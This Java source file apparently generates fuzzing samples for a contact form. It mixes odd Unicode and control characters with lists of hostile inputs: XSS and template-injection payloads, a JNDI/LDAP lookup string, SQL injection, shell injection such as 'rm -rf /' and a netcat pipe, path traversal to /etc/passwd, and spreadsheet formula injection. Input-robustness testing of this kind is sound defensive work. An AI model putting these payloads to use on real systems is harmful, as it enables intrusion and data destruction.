package io.vestibule.local.corpus;

import java.util.HashMap;
import java.util.List;
import java.util.Map;

/** Texts that have hurt programs: markup, orders to shells and databases, odd characters. */
final class Texts {

  private static final int MESSAGE = 5_000;
  private static final int LINE = 100;

  /** A black flag and tags: England, Scotland. */
  private static final List<String> FLAGS = List.of(flag("gbeng"), flag("gbsct"));

  private static final List<String> MARKUP =
      List.of(
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(2)>",
          "<!--",
          "]]>",
          "</textarea>",
          "<svg/onload=alert(3)>",
          "javascript:alert(4)",
          "&lt;b&gt;",
          "&#x41;",
          "<b>\"x\"</b>",
          "'';!--\"<XSS>=&{()}",
          "<a href=\"//a.example\">x</a>",
          "<%= 7*7 %>",
          "{{7*7}}",
          "${7*7}",
          "#{7*7}",
          "@(7*7)",
          "@raw",
          "[[7*7]]",
          "*{7*7}",
          "${jndi:ldap://a.example/x}",
          "<?php 1 ?>");

  private static final List<String> ORDERS =
      List.of(
          "' OR 1=1 -- ",
          "1; DROP TABLE users",
          "\"; rm -rf /",
          "$(touch /x)",
          "`id`",
          "| nc a 1",
          "../../etc/passwd",
          "%00",
          "%n%s%x",
          "%2e%2e%2f",
          "\\\\host\\share",
          "C:\\con\\con",
          "=cmd|'/c calc'!A0",
          "+1+1",
          "-2",
          "@SUM(1)",
          "{\"$ne\":null}",
          "[object Object]");

  private static final List<String> WORDS =
      List.of(
          "null",
          "undefined",
          "NaN",
          "true",
          "nil",
          "None",
          "0",
          "-1",
          "1e309",
          "0x7f",
          "1/0",
          "٠١٢",
          "9223372036854775808",
          "１２３",
          "½",
          "Infinity",
          "COM1",
          "Scunthorpe",
          "hello",
          "Grüße",
          "你好",
          "здравствуйте",
          "مرحبا",
          "שלום",
          "नमस्ते",
          "สวัสดี",
          "こんにちは",
          "안녕",
          "ἀγάπη");

  private static final List<String> ODD =
      List.of(
          "👩‍🚀",
          "👨‍👩‍👧‍👦",
          "👍🏿",
          "🏳️‍🌈",
          "🇩🇪",
          "e\u0301",
          "Z\u0335\u0321a\u0353\u0325",
          "\u1E9E",
          "\uFB01",
          "\uFDFD",
          "𝕳𝖊𝖑𝖑𝖔",
          "\uE000",
          "\uFFFE",
          "\uD83F\uDFFF",
          "\u2028",
          "\u2029",
          "\u3000",
          "\u00A0",
          "نامه\u200Cای",
          "क्\u200Dष",
          "\u2066",
          "（╯°□°）╯︵ ┻━┻",
          "¯\\_(ツ)_/¯",
          "\u1680");

  /** What is taken out, wherever it is. */
  private static final List<String> UNSEEN =
      List.of(
          "\u00AD",
          "\u200B",
          "\u200E",
          "\u202E",
          "\u2060",
          "\u2066",
          "\uFEFF",
          "\u061C",
          "\uDB40\uDC01");

  private static final List<String> BREAKS =
      List.of("\n", "\r\n", "\r", "\u000B", "\f", "\n\n", "\t");

  /** What alone is nothing. */
  private static final List<String> NOTHING =
      List.of(
          "\u200D", "\u3164", "\u2800", "\uFE0F", "\u00A0", "\u200B", " ", "\u115F", "\u034F",
          "\u2003");

  private static final List<String> CONTROLS =
      List.of("\u0000", "\u0001", "\u0007", "\b", "\u001B[31m", "\u007F", "\u0080", "\u009F");

  private Texts() {}

  private static String flag(String region) {
    var flag = new StringBuilder("\uD83C\uDFF4");
    region.chars().forEach(letter -> flag.appendCodePoint(0xE0000 + letter));
    return flag.appendCodePoint(0xE007F).toString();
  }

  /** The tags of {@link #FLAGS}; no other sample has any. */
  static boolean isOfAFlag(int character) {
    return character >= 0xE0020 && character <= 0xE007F;
  }

  static Sample next(Dice dice, String email) {
    var values = new HashMap<String, String>(Map.of("email", email));
    values.put("name", dice.onceIn(3) ? line(dice) : "Ada");
    values.put("message", message(dice));
    if (dice.onceIn(2)) {
      values.put("company", line(dice));
    }
    return Samples.of(dice, values);
  }

  /** A text of several lines. */
  static String message(Dice dice) {
    return switch (dice.below(20)) {
      case 0 -> dice.several(1, 4, () -> dice.pick(NOTHING));
      case 1 -> line(dice) + dice.pick(CONTROLS) + line(dice);
      case 2 -> dice.several(MESSAGE, MESSAGE + 1, () -> "🙂");
      default -> dice.several(1, 8, () -> line(dice) + dice.pick(BREAKS));
    };
  }

  /** A text of one line, as a rule. */
  static String line(Dice dice) {
    return switch (dice.below(40)) {
      case 0 -> dice.several(1, 3, () -> dice.pick(NOTHING));
      case 1 -> "a" + dice.pick(CONTROLS) + "b";
      case 2 -> "a" + dice.pick(BREAKS) + "b";
      case 3 -> dice.several(LINE - 1, LINE + 1, () -> "é");
      default -> dice.several(1, 4, () -> part(dice));
    };
  }

  private static String part(Dice dice) {
    return switch (dice.below(6)) {
      case 0 -> dice.pick(MARKUP);
      case 1 -> dice.pick(ORDERS);
      case 2 -> dice.pick(ODD);
      case 3 -> dice.pick(UNSEEN) + dice.pick(WORDS);
      case 4 -> dice.onceIn(3) ? dice.pick(FLAGS) : " ";
      default -> dice.pick(WORDS);
    };
  }
}
